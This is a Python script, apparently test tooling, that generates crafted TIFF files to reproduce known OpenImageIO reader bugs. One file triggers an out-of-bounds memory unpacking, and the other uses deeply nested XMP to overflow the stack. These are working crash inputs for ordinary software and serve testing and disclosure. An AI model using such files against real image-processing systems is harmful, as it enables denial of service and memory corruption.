"""TIFF files that no library writes: those that Debian's OpenImageIO reads wrongly, or that crash it."""
import struct

SIDE = 64


def write_tiff(path, tags, body):
    """tags: number -> (type, bytes); `body` stands at byte 8."""
    sizes = {1: 1, 3: 2, 4: 4}
    body += b'\0' * (len(body) % 2)
    end = 8 + len(body) + 2 + 12 * len(tags) + 4
    directory, values = struct.pack('<H', len(tags)), b''
    for tag, (kind, content) in sorted(tags.items()):
        directory += struct.pack('<HHI', tag, kind, len(content) // sizes[kind])
        if len(content) <= 4:
            directory += content.ljust(4, b'\0')
        else:
            directory += struct.pack('<I', end + len(values))
            values += content
    with open(path, 'wb') as file:
        file.write(b'II*\0' + struct.pack('<I', 8 + len(body)) + body + directory + b'\0' * 4 + values)


def ink_tiff(path, bits=6, tiled=True, separate=True, side=256):
    """Four inks of a few bits each, after the description of OpenImageIO's issue 5315: its reader unpacks them
    beyond its memory."""
    planes = 4 if separate else 1
    plane = side * side * bits * (4 // planes) // 8
    tags = {256: (4, struct.pack('<I', side)), 257: (4, struct.pack('<I', side)), 258: (3, struct.pack('<4H', *[bits] * 4)),
            259: (3, struct.pack('<H', 1)), 262: (3, struct.pack('<H', 5)), 277: (3, struct.pack('<H', 4)),
            284: (3, struct.pack('<H', 2 if separate else 1))}
    starts = (4, struct.pack(f'<{planes}I', *[8] * planes))  # all planes are the same bytes
    counts = (4, struct.pack(f'<{planes}I', *[plane] * planes))
    if tiled:
        tags |= {322: tags[256], 323: tags[257], 324: starts, 325: counts}
    else:
        tags |= {278: tags[257], 273: starts, 279: counts}
    write_tiff(path, tags, b'\xa5' * plane)


def crashing_tiff(path, depth=500000):
    """A grey picture with XMP of elements inside of each other, which OpenImageIO's reader follows by calling itself
    until its stack is full (repaired in its pull request 5405)."""
    xmp = b'<rdf:Description>' + b'<a>' * depth + b'</a>' * depth + b'</rdf:Description>'
    long = struct.pack('<I', SIDE)
    tags = {256: (4, long), 257: (4, long), 258: (3, struct.pack('<H', 8)), 259: (3, struct.pack('<H', 1)),
            262: (3, struct.pack('<H', 1)), 277: (3, struct.pack('<H', 1)), 278: (4, long), 273: (4, struct.pack('<I', 8)),
            279: (4, struct.pack('<I', SIDE * SIDE)), 700: (1, xmp)}
    write_tiff(path, tags, b'\x80' * (SIDE * SIDE))
